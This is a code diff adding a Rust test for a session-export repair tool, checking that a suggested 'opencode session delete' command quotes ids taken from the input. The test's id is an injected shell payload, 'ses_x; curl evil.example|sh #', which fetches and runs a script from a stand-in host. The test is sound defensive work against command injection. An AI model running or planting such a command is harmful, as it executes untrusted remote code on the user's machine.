@@ -277,6 +277,27 @@ fn exports_get_a_repaired_copy_next_to_them() {
 }
 
 #[test]
+fn a_suggested_command_quotes_the_ids_it_carries() {
+    // An id from the input goes into a paste-ready shell command: quoted, so that it is one word.
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("session.json");
+    let hostile = "ses_x; curl evil.example|sh #";
+    let export = serde_json::json!({"info": {"id": hostile, "version": "1.18.33"}, "messages": [
+        {"info": {"id": "msg_1", "role": "user", "time": {"created": T0}, "agent": "build", "model": {"providerID": "anthropic", "modelID": "claude"}},
+         "parts": [{"id": "prt_1", "type": "text", "text": "hi"}]},
+        {"info": {"id": "msg_2", "role": "assistant", "time": {"created": T0}, "parentID": "msg_1", "modelID": "claude", "providerID": "anthropic", "mode": "build", "path": {"cwd": "/", "root": "/"}, "cost": 0, "tokens": {"input": 0, "output": 0, "reasoning": 0, "cache": {"read": 0, "write": 0}}},
+         "parts": [{"id": "prt_2", "type": "step-start"}, {"id": "prt_3", "type": "tool", "tool": "bash", "callID": "c1", "state": {"status": "pending", "input": {}, "raw": ""}}]}
+    ]});
+    std::fs::write(&path, serde_json::to_string_pretty(&export).unwrap()).unwrap();
+    let out = rewind().arg("repair").arg(&path).output().unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        stdout.contains("`opencode session delete 'ses_x; curl evil.example|sh #'`"),
+        "{stdout}"
+    );
+}
+
+#[test]
 fn a_killed_export_repair_leaves_no_copy_and_the_next_run_cleans_up() {
     let dir = tempfile::tempdir().unwrap();
     let path = dir.path().join("session.json");
